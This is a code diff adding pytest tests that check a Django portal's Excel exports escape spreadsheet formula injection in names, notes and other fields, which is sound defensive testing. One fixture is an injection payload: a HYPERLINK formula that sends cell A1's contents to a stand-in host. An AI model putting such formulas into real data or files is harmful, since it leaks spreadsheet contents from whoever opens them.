@@ -10,6 +10,7 @@ from django.utils import timezone
 from openpyxl import load_workbook
 
 from tests.factories import CadreFactory, CadreRatingFactory, UnitFactory, UnitRatingFactory
+from thiduaportal import excel
 from thiduaportal.imports import IMPORTERS
 from thiduaportal.models import Job, JobState
 from units import exports
@@ -264,3 +265,53 @@ def test_someone_elses_job_is_forbidden(client_for, vhxh_officer, chairman):
 
 def test_cadre_export_accepts_post_only(client_for, vhxh_officer):
     assert client_for(vhxh_officer).get(reverse("units:export_cadres")).status_code == 405
+
+
+# --- Formula injection -------------------------------------------------------------------
+
+HYPERLINK = '=HYPERLINK("http://example.invalid/?leak="&A1,"Bấm vào đây")'
+
+
+def test_a_person_named_like_a_formula_is_exported_as_text(client_for, vhxh_officer, own_unit):
+    cadre = CadreFactory(unit=own_unit, full_name=HYPERLINK)
+    CadreRatingFactory(cadre=cadre, year=2026, level="good", note="+84 912 345 678")
+    response = client_for(vhxh_officer).get(reverse("units:export_ratings", args=[2026]))
+    sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
+    name, note = sheet.cell(row=2, column=4), sheet.cell(row=2, column=7)
+    assert (name.value, name.data_type) == ("'" + HYPERLINK, "s")
+    assert (note.value, note.data_type) == ("'+84 912 345 678", "s")
+    assert (sheet.cell(row=2, column=1).value, sheet.cell(row=2, column=1).data_type) == (2026, "n")
+
+
+@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)"])
+def test_every_formula_trigger_is_escaped_in_the_people_list(vhxh_officer, own_unit, text):
+    CadreFactory(unit=own_unit, full_name=text, home_town="Thôn Đông")
+    out = io.BytesIO()
+    exports.write_cadres(out, Cadre.objects.all())
+    sheet = load_workbook(io.BytesIO(out.getvalue())).worksheets[0]
+    name, home_town = sheet.cell(row=2, column=1), sheet.cell(row=2, column=8)
+    assert (name.value, name.data_type) == ("'" + text, "s")
+    assert home_town.value == "Thôn Đông"
+
+
+def test_an_escaped_name_imports_back_as_typed(vhxh_officer, own_unit, own_cadre):
+    UnitRatingFactory(unit=own_unit, year=2026, level="good", note="- giữ vững danh hiệu")
+    _name, content = exports.ratings_workbook(vhxh_officer, 2026)
+    result = IMPORTERS["ratings"].parse(io.BytesIO(content), user=vhxh_officer)
+    assert result.errors == []
+    assert [row["note"] for _n, row in result.rows] == ["- giữ vững danh hiệu"]
+
+
+@pytest.mark.parametrize(
+    ("value", "written"),
+    [
+        ("\t=1+1", "'\t=1+1"),
+        ("\r=1+1", "'\r=1+1"),
+        ("Nguyễn Văn A", "Nguyễn Văn A"),
+        ("a=b", "a=b"),
+        (-5, -5),
+        (None, None),
+    ],
+)
+def test_safe_value_escapes_text_that_starts_a_formula_and_keeps_numbers(value, written):
+    assert excel.safe_value(value) == written
